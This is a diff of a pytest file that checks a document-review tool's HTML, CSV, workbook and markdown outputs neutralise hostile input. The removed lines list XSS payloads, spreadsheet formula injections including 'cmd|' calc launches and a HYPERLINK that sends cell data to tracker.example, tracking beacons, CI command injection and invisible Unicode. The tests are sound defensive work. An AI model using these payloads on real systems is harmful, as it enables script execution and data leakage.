@@ -1,6 +1,5 @@
 """Documents, terms, decisions and file names made to do something, through every output."""
 
-import csv
 import io
 import json
 import re
@@ -10,6 +9,7 @@ from datetime import UTC, datetime
 import chromium
 import pytest
 from chromium import needs_chromium, open_page, requests
+from hostile import HOSTILE, assert_inert, assert_no_formulas, assert_only_text, pairs
 from lxml import etree
 
 import fedele
@@ -17,41 +17,11 @@ from fedele import exchange
 from fedele.cli.options import complain
 from fedele.reports import render_html, render_terminal
 
-HOSTILE = {
-    "script": "<script>window.taken = 1</script>",
-    "closing": "</script></style></textarea></title>--><script>window.taken = 1</script>",
-    "handler": '"><img src=x onerror="window.taken = 1"><svg/onload=window.taken=1>',
-    "attribute": "' autofocus onfocus='window.taken = 1' x='",
-    "link": '<a href="javascript:window.taken=1">qui</a> [qui](javascript:window.taken=1)',
-    "beacon": '<img src="http://tracker.example/x.png"> ![x](http://tracker.example/x.png)',
-    "frame": '<iframe srcdoc="<script>parent.taken = 1</script>"></iframe><base href="//x">',
-    "refresh": '<meta http-equiv="refresh" content="0;url=http://tracker.example/">',
-    "comment": "<!--[if IE]><script>window.taken = 1</script><![endif]--> <![CDATA[ ]]> ]]>",
-    "template": "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %>",
-    "json": '"}], "flags": [{"id": "\\u003cscript\\u003e',
-    "entity": "&lt;script&gt;window.taken=1&lt;/script&gt; &#60;script&#62; &xxe;",
-    "bidi": "\u202eesrever\u202c \u2066isolate\u2069 \u200fright\u061c",
-    "unseen": "zero\u200bwidth\u200d\u2060\ufeff tag\U000e0041\U000e007f selector\ufe0f\U000e0100",
-    "formula": '=HYPERLINK("http://tracker.example/?"&A1) +1 -1 @SUM(1) ＝1',
-    "command": "::set-output name=x::y ::add-mask::z %0A::error::w ##[error]v",
-    "markdown": "| a | b | @everyone #1 GH-1 owner/repo#1 `x` **y** <details> http://x.example",
-}
-ITALIAN = "Il governo ha approvato ieri la legge numero {n}, dopo lunghe trattative {x}."
-ENGLISH = "The government approved law number {m} yesterday, after long negotiations {x}."
-EXTRA = "Secondo il ministro {x} nessuno ha letto il testo della riforma delle pensioni."
-STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
-
 
 @pytest.fixture(scope="module")
 def texts():
-    italian = [
-        f"{ITALIAN.format(n=100 + n, x=x)} {EXTRA.format(x=x)}"
-        for n, x in enumerate(HOSTILE.values())
-    ]
-    english = [ENGLISH.format(m=200 + n, x=x) for n, x in enumerate(HOSTILE.values())]
-    formulas = [f"{sign}cmd|'/C calc'!A1, disse il ministro a Roma." for sign in "=+-@＝＋－＠"]
-    answers = [f"{sign}cmd|'/C calc'!A1, the minister said in Rome." for sign in "=+-@＝＋－＠"]
-    return "\n\n".join([*italian, *formulas]), "\n\n".join([*english, *answers])
+    italian, english = zip(*pairs(), strict=True)
+    return "\n\n".join(italian), "\n\n".join(english)
 
 
 @pytest.fixture(scope="module")
@@ -89,11 +59,6 @@ def browser(tmp_path_factory):
 
 def _fields(decision):
     return {name: getattr(decision, name) for name in decision.__dataclass_fields__}
-
-
-def assert_inert(text):
-    """Nothing in it steers a terminal, a log or whoever reads along."""
-    assert STEERING.findall(text) == []
 
 
 # ---- In a browser ------------------------------------------------------------------------------
@@ -198,28 +163,10 @@ def test_a_complaint_is_one_inert_line(capsys):
 
 # ---- In tables ---------------------------------------------------------------------------------
 
-FORMULA = re.compile("^['\"\\s]*[=+\\-@＝＋－＠\t\r\n]")
 
-
-def test_no_csv_cell_is_a_formula(review, tmp_path):
+def test_no_cell_is_a_formula_or_a_link(review, tmp_path):
     review.to_csv(tmp_path)
-    for file in tmp_path.glob("*.csv"):
-        rows = list(csv.reader(io.StringIO(file.read_text("utf-8"), newline="")))
-        cells = {cell for row in rows for cell in row}
-        wild = {cell for cell in cells if cell[:1] in tuple("=+-@＝＋－＠\t\r\n")}
-        assert {cell for cell in wild if not re.fullmatch(r"-?[\d.e-]+", cell)} == set()
-
-
-def test_no_workbook_cell_is_a_formula_or_a_link(review, tmp_path):
-    from openpyxl import load_workbook
-
-    path = review.to_xlsx(tmp_path / "x.xlsx")
-    book = load_workbook(path)
-    for sheet in book:
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f"
-                assert cell.hyperlink is None or not (cell.hyperlink.target or "").strip()
+    assert_no_formulas([*tmp_path.glob("*.csv"), review.to_xlsx(tmp_path / "x.xlsx")])
 
 
 # ---- In files that other programs read ---------------------------------------------------------
@@ -254,14 +201,7 @@ def test_sarif_and_jsonl_stay_whole(review, tmp_path):
 
 
 def test_a_comment_makes_no_link_picture_or_mention(review, tmp_path):
-    from markdown_it import MarkdownIt
-
-    text = exchange.write_markdown(review, tmp_path / "x.md").read_text("utf-8")
-    html = MarkdownIt("gfm-like", {"linkify": False}).render(text)
-    tags = {name.lower() for name in re.findall(r"<([a-zA-Z0-9]+)", html)}
-    assert tags <= {"h3", "p", "table", "thead", "tbody", "tr", "th", "td", "em", "strong"}
-    assert not re.search(r"@[a-z]|(?<!&)#\d", text)
-    assert_inert(text.replace("\n", ""))
+    assert_only_text(exchange.write_markdown(review, tmp_path / "x.md").read_text("utf-8"))
 
 
 def test_nothing_unseen_is_lost_from_the_text(texts, review):
